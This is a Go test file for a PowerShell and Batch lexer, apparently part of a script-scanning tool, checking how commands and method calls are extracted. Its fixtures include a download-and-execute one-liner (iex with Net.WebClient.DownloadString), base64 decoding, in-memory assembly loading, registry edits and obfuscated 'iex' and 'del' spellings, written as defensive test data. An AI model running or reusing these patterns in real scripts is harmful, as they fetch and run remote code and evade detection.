package script

import (
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/wheelscope/wheelscope/engine/source"
)

func TestPowerShellCommands(t *testing.T) {
	for _, row := range [][]string{
		{"Get-ChildItem -Path 'a b' | Remove-Item", "get-childitem·-Path·a b", "<remove-item"},
		{"$x = Get-Content y", "get-content·y"},
		{"$x=Get-Content y", "get-content·y"},
		{"$x = 'y'; a", "a"},
		{"$x.y = Get-Date", "get-date"},
		{"# a\n<# b\nc #> d", "d"},
		{"a `\n b", "a·b"},
		{"i`ex $x", "iex·$x"},
		{"& 'C:\\x y\\z.exe' a", "z·a"},
		{"& $cmd a", "$cmd·a"},
		{". .\\x.ps1", "x.ps1"},
		{"if ($a -eq 'b') { c d } else { e }", "c·d", "e"},
		{"foreach ($i in $x) { a $i }", "a·$i"},
		{"function f { a b }\nf", "a·b", "f"},
		{"try { a } catch { b }", "a", "b"},
		{"a (b c) d", "b·c", "a·(b c)·d"},
		{"a \"x$(b c)\"", "b·c", "a·x$(b c)"},
		{"a > b 2>&1", "a·> b"},
		{"a -x:1, 2", "a·-x:1·2"},
		{"@{ A = 'b'; C = 1 }"},
		{"'x' | iex", "<iex"},
		{"if (!$x) { a }", "a"},
		{"iex (New-Object Net.WebClient).DownloadString('https://example.com/a')", "new-object·Net.WebClient", "iex·(New-Object Net.WebClient)·.DownloadString('https://example.com/a')"},
		{"reg.exe add HKCU\\x /f", "reg·add·HKCU\\x·/f"},
		{"powershell -NoP -c \"a | b\"", "powershell·-NoP·-c·a | b", "a", "<b"},
		{"cmd /c \"a & b\"", "cmd·/c·a & b", "a", "b"},
		{"a @'\nb\n'@\nc", "a·b", "c"},
		{"a @\"\r\nb\"c\r\n\"@", "a·b\"c"},
		{"a @'\n'@", "a·"},
		{"a ‘b c’", "a·b c"},
		{"a 'b''c' \"d`\"e\"", "a·b'c·d\"e"},
		{""},
	} {
		t.Run(row[0][:min(len(row[0]), 50)], func(t *testing.T) {
			require.Equal(t, append([]string{}, row[1:]...), commands(lex(source.PowerShell, row[0]).Commands))
		})
	}
}

func TestPowerShellCalls(t *testing.T) {
	for _, row := range [][2]string{
		{"(New-Object Net.WebClient).DownloadFile('a', 'b')", "().DownloadFile|a"},
		{"$c.DownloadString(\"a\")", "$c.DownloadString|a"},
		{"[Convert]::FromBase64String($x)", "[Convert]::FromBase64String"},
		{"[System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('eA=='))", "[System.Text.Encoding]::UTF8.GetString [Convert]::FromBase64String|eA=="},
		{"$x = [Reflection.Assembly]::Load($b)", "[Reflection.Assembly]::Load"},
		{"'a'.Replace('b', 'c')", "().Replace|b"},
		{"a.b c", ""},
	} {
		require.Equal(t, row[1], calls(lex(source.PowerShell, row[0])), row[0])
	}
}

func TestBatchCommands(t *testing.T) {
	for _, row := range [][]string{
		{"@echo off\r\nrem del x\r\n:: del y\r\n:label\r\ndel z", "echo·off", "del·z"},
		{"a & b && c || d | e", "a", "b", "c", "d", "<e"},
		{"C:\\Windows\\System32\\REG.EXE add HKCU\\x /v \"a b\" /f", "reg·add·HKCU\\x·/v·a b·/f"},
		{"a^\n b", "a·b"},
		{"d^e^l x", "del·x"},
		{"if exist x del x", "del·x"},
		{"if not \"%a%\"==\"b\" (c) else (d)", "c", "d"},
		{"if /i %a% equ 1 b", "b"},
		{"for %%i in (a b) do del %%i", "del·%%i"},
		{"for /f \"tokens=*\" %%i in ('whoami') do echo %%i", "whoami", "echo·%%i"},
		{"for /f %%i in ('a 2^>nul ^| b') do c", "a", "<b", "c"},
		{"@if defined x @call y & echo.z", "y", "echo"},
		{"call :label x"},
		{"start \"\" /b x.exe y", "x·y"},
		{"start x", "x"},
		{"start", "start"},
		{"call a.bat b", "a.bat·b"},
		{"cmd /c \"del x\"", "cmd·/c·del x", "del·x"},
		{"powershell -Command \"iex $x\"", "powershell·-Command·iex $x", "iex·$x"},
		{"a > b 2>nul", "a·> b"},
		{"set X=a b", "set·X=a·b"},
		{"goto :eof", "goto·:eof"},
		{"echo \"open\ndel x", "echo·open", "del·x"},
		{""},
	} {
		t.Run(row[0][:min(len(row[0]), 50)], func(t *testing.T) {
			require.Equal(t, append([]string{}, row[1:]...), commands(lex(source.Batch, row[0]).Commands))
		})
	}
}

func TestWindowsTokens(t *testing.T) {
	for _, row := range []struct {
		kind source.Kind
		data string
		want []string
	}{
		{source.PowerShell, "# a\n'b''c' \"d`n\" <# e #>", []string{" a", "b'c", "d\n", " e "}},
		{source.Batch, "rem a\n:: b\necho \"c\"", []string{" a", " b", "c"}},
	} {
		out := lex(row.kind, row.data)
		var got []string
		for _, tok := range out.Tokens {
			got = append(got, Value(row.kind, []byte(row.data), tok))
		}
		require.Equal(t, row.want, got)
	}
}
